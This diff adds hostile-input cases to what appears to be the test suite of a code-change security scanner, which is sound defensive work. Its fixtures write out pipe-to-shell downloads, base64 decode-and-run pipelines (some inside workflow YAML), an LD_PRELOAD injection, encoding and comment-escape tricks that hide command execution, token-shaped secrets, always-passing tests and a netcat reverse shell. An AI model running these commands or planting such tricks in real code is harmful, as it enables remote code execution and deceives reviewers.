@@ -298,11 +298,44 @@ EOF
 hostile run-word-broken 'preload=ask@scripts/build[.]sh' 'a word in two lines' <<'EOF'
 printf 'export LD_PRE\\\nLOAD=/tmp/x.so\n' >>scripts/build.sh
 EOF
+hostile run-options 'pipe-to-shell=ask@scripts/a[.]sh pipe-to-shell=ask@scripts/b[.]sh decode-and-run=block@scripts/c[.]sh decode-and-run=block@scripts/d[.]sh decode-and-run=block@scripts/e[.]sh' 'a shell behind options with values, in quotes, as a variable, and what was decoded to a file' <<'EOF'
+printf 'curl -fsSL https://get.example.test/x | sudo -u root "b"ash\n' >scripts/a.sh
+printf 'curl -fsSL https://get.example.test/x | timeout 5 "$SHELL"\n' >scripts/b.sh
+printf 'base64 -d <x | nice -n 5 perl -w\n' >scripts/c.sh
+printf 'base64 -d <x >k; sh k\n' >scripts/d.sh
+printf 'base64 -d <x |\n# what it says\n\nbash\n' >scripts/e.sh
+EOF
+hostile run-folded 'decode-and-run=block@[.]github/workflows/a[.]yml decode-and-run=block@[.]github/workflows/b[.]yml' 'a pipeline in a value of YAML over several lines' <<'EOF'
+printf 'jobs:\n  x:\n    steps:\n      - run: >-\n          base64 -d data/x\n          | bash\n' >.github/workflows/a.yml
+printf 'jobs:\n  x:\n    steps:\n      - run: base64 -d data/x\n          | bash\n' >.github/workflows/b.yml
+EOF
+hostile run-long 'decode-and-run=block@scripts/build[.]sh' 'a pipeline of many lines' <<'EOF'
+{ echo 'base64 -d <x \'; awk 'BEGIN { while (n++ < 900) print "| tee file-" n " \\" }'; echo '| sh'; } >>scripts/build.sh
+EOF
 hostile cookie 'encoding=ask@src/x[.]py' 'a source that says it is in another encoding' <<'EOF'
 printf '# -*- coding: utf-7 -*-\nx = 1 # +AAo-import os\n' >src/x.py
 EOF
 hostile escape-line 'comment-trick=ask@src/X[.]java' 'an escape that ends a comment' <<'EOF'
 printf 'class X {\n// \\u000a Runtime.getRuntime().exec("id");\n}\n' >src/X.java
+EOF
+hostile cookie-second 'encoding=ask@src/x[.]py encoding=ask@src/y[.]py' 'an encoding behind a word that looks like one' <<'EOF'
+printf '# vim encoding, see -*- coding: utf-7 -*-\nx = 1 # +AAo-print(1)\n' >src/x.py
+printf '# encodings: coding=raw_unicode_escape\nx = 1\n' >src/y.py
+EOF
+hostile escape-many 'comment-trick=ask@src/X[.]java comment-trick=ask@src/Y[.]java' 'escapes with more than one u, and one that ends a comment' <<'EOF'
+printf '// \\uuu000a Runtime.getRuntime().exec("x");\n' >src/X.java
+printf '/* \\u002a\\u002f Runtime.getRuntime().exec("x"); /* */\n' >src/Y.java
+EOF
+hostile secret-shapes 'secret=block@src/bot[.]py secret=block@data/azure[.]txt secret-likely=ask@src/basic[.]py secret-likely=ask@src/stripe[.]py' 'keys of a bot and of a store, a password in a header, a key for tests' <<'EOF'
+printf 'BOT = "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw7"\n' >src/bot.py
+printf 'AccountName=x;AccountKey=%s==\n' "$(random64 64 51 | head -c 86)" >data/azure.txt
+printf 'H = {"Authorization": "Basic %s"}\n' "$(printf admin:hunter2x7 | base64)" >src/basic.py
+printf 'K = "sk_test_4eC39HqLyjWDarjtT1zdp7dc"\n' >src/stripe.py
+EOF
+hostile tests-return 'test-hollow=ask@tests/test_a[.]py test-hollow=ask@tests/test_b[.]py test-hollow=ask@tests/test_calc[.]py' 'tests that end before their end, and one that holds always' <<'EOF'
+printf 'def test_a():\n    return\n    assert 1 > 2\n' >tests/test_a.py
+printf 'def test_b():\n    assert add(1, 2) == 4 or 1\n' >tests/test_b.py
+sed -i 's/^def test_add():/&\n    return/' tests/test_calc.py
 EOF
 hostile shells 'remote-shell=block@scripts/a[.]sh remote-shell=block@web/x[.]php remote-shell=block@src/x[.]py' 'shells for somebody elsewhere, as they are usual' <<'EOF'
 printf 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 9 >/tmp/f\n' >scripts/a.sh
